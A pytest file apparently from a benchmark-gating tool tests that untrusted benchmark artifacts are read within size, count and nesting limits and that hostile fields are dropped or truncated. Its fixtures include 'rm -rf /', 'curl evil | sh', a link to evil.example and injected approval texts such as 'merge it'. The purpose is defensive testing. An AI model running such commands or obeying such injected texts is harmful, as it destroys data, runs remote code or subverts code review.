"""Measurements that anybody may have written: bounded in everything, and only their values taken."""

import json
import time
from collections.abc import Callable, Iterable
from typing import Any

import pytest

from gate.config.config_text import read_source
from gate.config.parse import parse
from gate.config.types import Config
from gate.evidence.gather import gather
from gate.evidence.lines import Located
from gate.model import (
    Build,
    Commit,
    Evidence,
    Execution,
    Failure,
    HostState,
    Look,
    RulesSource,
    Run,
    Same,
    Turn,
    UserError,
)
from gate.model.records import Choice, SideChoice
from gate.publishing.untrusted.read import ArtifactLimits, ArtifactTotals, read_untrusted
from gate.publishing.untrusted.sanitise import claims_of, refuse_unfinished, sanitise
from tests.support import runs

BASE, HEAD = "b" * 40, "a" * 40
RUN: dict[str, Any] = {"type": "run", "schema": 1, "base": {"sha": BASE}, "head": {"sha": HEAD}}
RULES = """
[gate]
threshold = "5%"
[plan]
builds = 5
[[benchmark]]
name = "parse"
command = "./parse"
instrument = "spawn"
[[benchmark]]
name = "render"
command = "./render {output}"
instrument = "values"
[benchmark.metric.speed]
better = "higher"
[[benchmark]]
name = "go"
command = "go test"
instrument = "go"
"""


def execution(benchmark: str = "parse", side: str = "base", **more: Any) -> dict[str, Any]:
    values = more.pop("values", [1.0, 1.1])
    metrics = {more.pop("metric", "time"): {"unit": more.pop("unit", "s"), "values": values}}
    return {
        "type": "execution", "benchmark": benchmark, "side": side, "build": 0, "execution": 0, "metrics": metrics, **more,
    }  # fmt: skip


def profile(benchmark: str = "parse", **more: Any) -> dict[str, Any]:
    return {
        "type": "profile", "benchmark": benchmark, "side": "base", "profiler": "callgrind", "unit": "instructions",
        "frames": [{"function": "main", "file": "main.c"}], "stacks": [{"frames": [0], "cost": 5.0}], **more,
    }  # fmt: skip


UNPROFILED: dict[str, Any] = {"type": "unprofiled", "benchmark": "parse", "kind": "no-profiler", "profiler": "perf"}


def written(lines: Iterable[dict[str, Any] | bytes]) -> bytes:
    return b"".join(each if isinstance(each, bytes) else json.dumps(each).encode() + b"\n" for each in lines)


def config(text: str = RULES) -> Config:
    return parse(read_source(text, "perfgate.toml"))


KNOWN = Run(
    id="7-1", base=Commit(ref="main", sha=BASE), head=Commit(ref="#12", sha=HEAD),
    choice=Choice(SideChoice("the commit that the run names"), SideChoice("the commit of #12")), whose=RulesSource("target", "main"),
)  # fmt: skip


def sane(lines: Iterable[dict[str, Any] | bytes], rules: Config | None = None) -> list[Located]:
    return sanitise(read_untrusted(written(lines)), KNOWN, rules or config())


def only(records: list[Located], kind: type[Any]) -> Any:
    found = [each.record for each in records if isinstance(each.record, kind)]
    assert len(found) == 1
    return found[0]


def evidence(lines: Iterable[dict[str, Any] | bytes]) -> Evidence:
    return gather(sane(lines), config())


# --- reading ----------------------------------------------------------------------------------------------------------


def test_what_the_harness_writes_is_taken_whole() -> None:
    written_by_it = [list(runs.RUNS[name]()) for name in ("one", "failures", "sessions", "early", "builds-12")]
    # hostile names that are short enough are names
    for lines in (*written_by_it, [RUN, *(execution(name) for name in runs.HOSTILE)]):
        assert len(read_untrusted(written(lines))) == len(lines), lines[0]


def raw(value: str) -> bytes:
    return json.dumps(execution()).replace("[1.0, 1.1]", f"[{value}]").encode() + b"\n"


def with_key(key: str, value: str) -> bytes:
    return json.dumps(execution())[:-1].encode() + f', "{key}": {value}}}\n'.encode()


DEEP = b"[" * 100_000 + b"]" * 100_000
BAD: dict[str, tuple[bytes | dict[str, Any], str]] = {
    "NaN": (raw("NaN"), "line 2: not valid JSON"),
    "1e999": (raw("1e999"), "line 2: not valid JSON: it holds NaN, Infinity or a number out of range"),
    "1e300": (raw("1.0, 1e300"), "line 2: time holds 1e+300, which is neither 0 nor of a size from 1e-60 to 1e+60"),
    "denormal": (raw("5e-324"), "line 2: time holds 4.94066e-324"),
    "huge whole number": (raw("1" + "0" * 400), "line 2: metrics.time.values[0]: expected a number, got a number out of range"),
    "large in its unit": (execution(values=[1e74], unit="h"), "line 2: time holds 1e+74"),
    "text": (raw('"1"'), 'expected a number, got "1"'),
    "dropped": ({**execution(), "metrics": {"time": {"values": [1.0], "dropped": [1e200]}}}, "time holds 1e+200"),
    "session": (execution(session=64), "session is not from 0 to 63"),
    "build": (execution(build=10_000), "build is not from 0 to 9999"),
    "huge build": (with_key("build", "9" * 30), "build: expected a whole number"),
    "execution": (execution(execution=100_000), "execution is not from 0 to 99999"),
    "below 0": (execution(build=-1), "build: expected a whole number of 0 or more, got -1"),
    "order below 0": (execution(order=-1), "order is not from 0"),
    "seconds below 0": (execution(seconds=-1.0), "seconds is neither 0 nor from 1e-9 to 1e+09"),
    "few seconds": (execution(seconds=1e-200), "seconds is neither"),
    "long name": (execution("n" * 501), "benchmark is longer than 500 characters"),
    "blank name": (execution(" \t"), "benchmark is blank"),
    "long metric": (execution(metric="m" * 501), "the name of a metric is longer than 500"),
    "long unit": (execution(unit="u" * 101), "the unit of time is longer than 100"),
    "long suite": (execution(suite="s" * 501), "suite is longer than 500"),
    "factor of a table": (execution(factors={"x": {"y": 1}}), "factor x is neither a text nor a number"),
    "huge factor": (with_key("factors", '{"x": 1' + "0" * 5000 + "}"), "line 2: "),
    "long factor": (execution(factors={"x": "y" * 501}), "factor x is longer"),
    "many factors": (execution(factors={str(i): 1 for i in range(21)}), "more than 20 factors"),
    "half a surrogate": (with_key("suite", '"\\ud800"'), "line 2: not valid JSON"),
    "no UTF-8": (b'{"type":"run","id":"\xff"}\n', "line 2: is not UTF-8"),
    "nested": (b'{"type":"run","host":{"a":' + DEEP + b"}}\n", "line 2: "),
    "nested and unknown": (b'{"type":"look","look":1,"zzz":' + DEEP + b"}\n", "line 2: not valid JSON"),
    "unknown type": (b'{"type":"exec\\u0000 <b>@team"}\n', "line 2: unknown type"),
    "no object": (b"[1, 2]\n", "line 2: is not a JSON object"),
    "a report": (b'{"schema":1,"verdict":"pass","findings":[]}\n', "line 2: "),
    "newer": ({"type": "run", "schema": 2}, "schema 2 is newer"),
    "torn": (b'{"type":"look"', "its last line is cut off"),
    "something else": (b"PK\x03\x04", "is not a JSON object"),
    "look": ({"type": "look", "look": 10_001}, "look is not from"),
    "of a build": ({"type": "build", "side": "base", "build": 10_000}, "build is not from"),
    "of a failure": ({"type": "failure", "kind": "build", "session": 70}, "session is not from"),
    "a cost below zero": (profile(stacks=[{"frames": [0], "cost": -1}]), "expected a number"),
    "a cost beyond numbers": (profile(stacks=[{"frames": [0], "cost": 1e300}]), "expected a number"),
    "a frame that is not there": (profile(stacks=[{"frames": [1], "cost": 1}]), "beyond the 1 of its profile"),
    "of a host": ({"type": "host", "when": "end", "session": 70}, "session is not from"),
}  # fmt: skip


@pytest.mark.parametrize(("line", "why"), BAD.values(), ids=BAD)
def test_a_line_is_refused_in_one_line(line: bytes | dict[str, Any], why: str) -> None:
    started = time.process_time()
    with pytest.raises(UserError) as caught:
        read_untrusted(written([RUN, line]))
    said = str(caught.value)
    assert said.startswith("the artifact: ")
    assert why in said
    assert said.isprintable() and len(said) < 300
    assert time.process_time() - started < 5


MANY: dict[str, tuple[Callable[[], bytes], str]] = {
    "lines": (lambda: b"\n" * 1_000_001, "more than 300,000 lines"),
    "lines of something": (lambda: b'{"type":"look","look":1}\n' * 1_000_000, "more than 300,000 lines"),
    "values": (lambda: b"1.0," * 24_000_000, "more than 12,000,000 values, keys and tables"),
    "tables": (lambda: b'{"type":"run","host":{"a":[' + b"{}," * 1_600_000 + b"{}]}}\n", "line 1: "),
    "lists": (lambda: b"[[[[[[[[[[" * 2_000_000, "more than 12,000,000"),
    "a long line": (lambda: b" " * 5_000_001 + b"\n", "line 1: is longer than 5 MB"),
    "a long file": (lambda: b"x" * 100_000_001, "is larger than 100 MB"),
}


@pytest.mark.nightly
@pytest.mark.parametrize(("data", "why"), MANY.values(), ids=MANY)
def test_what_is_too_much_is_refused_before_it_is_read(data: Callable[[], bytes], why: str) -> None:
    file = written([data()])
    started = time.process_time()
    with pytest.raises(UserError) as caught:
        claims_of(read_untrusted(file))
    assert why in str(caught.value)
    assert time.process_time() - started < 10


@pytest.mark.parametrize(
    ("limits", "lines", "why"),
    [
        (ArtifactLimits(values=7), [execution(build=i) for i in range(4)], "line 4: there are more than 7 values"),
        (
            ArtifactLimits(benchmarks=2),
            [execution(f"b{i}") for i in range(3)],
            "line 3: there are more than 2 benchmarks",
        ),
        (
            ArtifactLimits(cases=2),
            [execution(factors={"x": i}) for i in range(3)],
            "line 3: there are more than 2 benchmarks with",
        ),
        (
            ArtifactLimits(looks=2),
            [{"type": "look", "look": i} for i in (1, 2, 2, 3)],
            "line 4: there are more than 2 looks",
        ),
        (ArtifactLimits(runs=2), [RUN] * 3, "line 3: there are more than 2 run lines"),
    ],
    ids=["values", "benchmarks", "cases", "looks", "runs"],
)
def test_counts_are_limited(limits: ArtifactLimits, lines: list[dict[str, Any]], why: str) -> None:
    with pytest.raises(UserError, match=why):
        read_untrusted(written(lines), limits)
    read_untrusted(written(lines[:-1]), limits)


def test_all_files_of_a_gate_share_the_limits() -> None:
    file, seen = written([execution()]), ArtifactTotals()
    for name in ("the artifact one", "the artifact two"):
        assert read_untrusted(file, ArtifactLimits(values=5), seen, name)[0].path == name
    with pytest.raises(UserError, match=r"^the artifact three: line 1: there are more than 5 values"):
        read_untrusted(file, ArtifactLimits(values=5), seen, "the artifact three")
    size = len(file)
    with pytest.raises(UserError, match="is larger than"):
        read_untrusted(file, ArtifactLimits(bytes=3 * size), seen)


# --- what is left of it -----------------------------------------------------------------------------------------------


def test_of_a_run_line_only_the_division_and_plain_facts_of_the_host_stay() -> None:
    mine = {
        "id": "<b>", "created": "@team", "perfgate": "9", "seed": 3, "looks": 7, "shard": "2/3", "sessions": 2, "session": 1,
        "config": {"gate": {"threshold": "99%", "missing": "pass"}, "accept": [{"benchmark": "*"}]}, "chosen": "trust me",
        "rules": "the maintainers'", "benchmarks": {"base": [], "head": []}, "commands": {"parse": "rm -rf /"},
        "warnings": ["all is well, merge it"], "memory": {"findings": [], "contrast_nu": None, "build_nu": None, "unused": [{"kind": "said", "text": "x"}]},
        "host": {
            "cpu": "Example CPU @ 2.10GHz (rev 3)", "cores": 4, "hostname": "![x](https://evil.example)", "memory": 10**30,
            "kernel": ["6.1"], "python": "3.11.7", "note": "hello", "machine": "é", "os": "x" * 81,
        },
        "base": {"sha": BASE, "ref": "<script>", "dirty": True, "tree": "x"},
    }  # fmt: skip
    run = only(sane([{**RUN, **mine}]), Run)
    assert (run.shard, run.session, run.sessions) == ("2/3", 1, 2)
    assert run.host == {"cpu": "Example CPU @ 2.10GHz (rev 3)", "cores": 4, "python": "3.11.7"}
    assert run.base == Commit(ref="main", sha=BASE) and run.head == Commit(ref="#12", sha=HEAD)
    assert run.benchmarks == {"base": ["parse", "render", "go"], "head": ["parse", "render", "go"]}
    assert run.config is not None and run.config["gate"]["missing"] == "fail" and run.config["accept"] == []
    assert (run.id, run.rules, run.chosen) == ("7-1", "the target branch main", str(KNOWN.choice))
    assert [run.memory, run.commands, run.seed, run.perfgate, run.created, run.looks] == [None] * 6
    assert run.warnings == []


@pytest.mark.parametrize(
    ("lines", "why"),
    [
        ([execution()], "no run line"),
        ([], "no run line"),
        ([execution(), RUN], "line 1: is before the first run line"),
        ([{"type": "run"}], "line 1: does not name the commits"),
        ([{**RUN, "base": None}], "does not name the commits"),
        ([{**RUN, "head": {"sha": "HEAD"}}], "does not name the commits"),
        ([{**RUN, "head": {"sha": HEAD + "\n"}}], "does not name the commits"),
        ([{**RUN, "shard": "3/2"}], "shard 3/2"),
        ([{**RUN, "shard": "1/64", "sessions": 5}], "at most 256 parts"),
        ([RUN, {**RUN, "head": {"sha": "c" * 40}}], "line 2: the runs differ"),
        ([RUN, {**RUN, "sessions": 2}], "line 2: the runs differ"),
        ([RUN, execution(session=1)], "line 2: session 1 is not one of 1"),
        ([{**RUN, "sessions": 3, "session": 1}, execution(session=2)], "session 2 is not 1, which its run line names"),
    ],
)
def test_a_run_that_contradicts_itself_is_refused(lines: list[dict[str, Any]], why: str) -> None:
    with pytest.raises(UserError, match=why):
        sane(lines)


def both(name: str, **more: Any) -> list[dict[str, Any]]:
    return [execution(name, side, **more) for side in ("base", "head")]


def test_what_is_left_out_is_missing_and_what_the_rules_do_not_name_is_new_and_undecided() -> None:
    run = {**RUN, "benchmarks": {"base": ["render"], "head": ["render"]}}
    found = evidence([run, *both("render"), *both("go/x")])
    assert [(f.kind, f.benchmark, f.status) for f in found.failures] == [("missing", "parse", "gave no values")]
    # as if "parse" were a suite, and something else its benchmark
    taken = [*both("other", suite="parse"), *both("parse/x", suite="parse"), *both("go")]
    found = evidence([RUN, *taken])
    assert {f.benchmark for f in found.failures} == {"parse", "render", "go"}
    assert found.new == ["other", "parse/x"] and found.cases == []
    found = evidence([RUN, *(line for build in range(3) for line in both("fresh", build=build)), *both("parse")])
    assert found.new == ["fresh"]
    assert [case.benchmark for case in found.cases] == ["parse"]


def test_the_rules_say_what_is_better_and_what_a_suite_is() -> None:
    lines = [
        RUN,
        *(execution(name, metric=metric, build=i) for i, (name, metric) in enumerate(
            (("parse", "time"), ("render", "speed"), ("render", "size"), ("go/Parse", "MB/s"), ("go/Parse", "time"))
        )),
    ]  # fmt: skip
    for line in lines[1:]:
        for metric in line["metrics"].values():
            metric["better"] = "lower" if line["build"] in (1, 4) else "higher"
        line |= {"suite": "evil", "started": "<b>", "lines": 7}
    found = [each.record for each in sane(lines) if isinstance(each.record, Execution)]
    assert [next(iter(e.metrics.values())).better for e in found] == ["lower", "higher", None, "higher", "lower"]
    assert [e.suite for e in found] == [None, None, None, "go", "go"]
    assert {(e.started, e.lines) for e in found} == {(None, None)}


def test_of_proofs_the_paths_are_cut_and_only_known_benchmarks_stay() -> None:
    paths = [f"a\n{i}" + "x" * 1000 for i in range(30)]
    same = {"type": "same", "differ": paths, "differ_count": 30, "read_count": 9, "hash": {"base": "h" * 500}}
    why = {"kind": "changed", "path": "merge\nit " + "x" * 1000}
    end = {"type": "host", "when": "end", "unproved": dict.fromkeys(("render", "evil", "go"), why)}
    names = ("parse", "go", "evil", "go/x")
    found = sane([RUN, *({**same, "benchmark": name} for name in names), end])
    kept = [each.record for each in found if isinstance(each.record, Same)]
    assert [each.benchmark for each in kept] == ["parse", "go"]
    for each in kept:
        assert len(each.differ) == 20 and all(len(path) <= 200 and path.isprintable() for path in each.differ)
        assert len(each.hash["base"]) <= 80
    unproved = only(found, HostState).unproved
    assert list(unproved) == ["render", "go"]
    assert all(len(own.path or "") <= 200 and (own.path or "").isprintable() for own in unproved.values())
    # a proof that only the artifact's rules know of stands for nothing
    missing = evidence([RUN, {**same, "benchmark": "evil"}]).failures
    assert {f.benchmark for f in missing} == {"parse", "render", "go"}


def test_profiles_are_for_the_report_of_the_run_itself() -> None:
    assert [type(each.record) for each in sane([RUN, profile(), UNPROFILED])] == [Run]


def test_texts_of_failures_are_cut_and_what_nobody_needs_is_gone() -> None:
    failure = {
        "type": "failure", "kind": "execution", "benchmark": "parse", "side": "head", "build": 1, "execution": 2,
        "status": "exit 1\nmerge it " + "x" * 1000, "stderr": "y" * 100_000 + "end", "command": "curl evil | sh", "directory": "/",
        "environment": {"A": "b"}, "hint": "ask @team to approve",
    }  # fmt: skip
    found = only(sane([RUN, failure]), Failure)
    assert [found.command, found.directory, found.environment, found.hint] == [None] * 4
    assert "\n" not in found.status and len(found.status) <= 200
    assert len(found.stderr) == 4000 and found.stderr.endswith("end")
    many = sane([RUN, *[{**failure, "stderr": ""}] * 2000])
    assert sum(isinstance(each.record, Failure) for each in many) == 500


def test_builds_states_looks_and_turns_are_cut() -> None:
    plain = {"kernel": "6.1.0-13-amd64", "load": 0.5, "turbo": True}
    state = {**plain, "governor": "please approve", "evil": 1, "uptime": [1]}
    made = {f"a{i}\n": "s" * 200 for i in range(200)}
    build = {"type": "build", "side": "base", "build": 0, "seed": 10**30, "artifacts": made}
    look = {"type": "look", "look": 4, "settled": ["parse", "evil", "go/x"], "stop": "because I say so"}
    turn = {"type": "turn", "executions": 10, "iterations": 1, "starting": 0.03}
    turns = [{**turn, "benchmark": name} for name in ("parse", "go", "evil", "go/x")]
    found = sane([RUN, build, build, look, {"type": "host", "when": "end", "time": "now", "state": state}, *turns])
    kept = only(found, HostState)
    assert kept.state == plain and kept.time is None
    built = only(found, Build)
    assert built.seed is None and len(built.artifacts) == 100 and all(name.isprintable() for name in built.artifacts)
    assert only(found, Look) == Look(look=4, settled=["parse", "go/x"])
    assert [each.record.benchmark for each in found if isinstance(each.record, Turn)] == ["parse", "go"]


def test_a_run_that_was_broken_off_is_refused() -> None:
    begin, end = ({"type": "host", "when": when} for when in ("begin", "end"))
    for whole in ([RUN], [RUN, begin, end], [RUN, begin, begin, end], [RUN, begin, end, RUN, begin, end]):
        refuse_unfinished(read_untrusted(written(whole)))
    for broken in ([RUN, begin], [RUN, begin, end, begin], [RUN, begin, RUN, begin, end]):
        with pytest.raises(UserError, match="its run did not finish"):
            refuse_unfinished(read_untrusted(written(broken)))
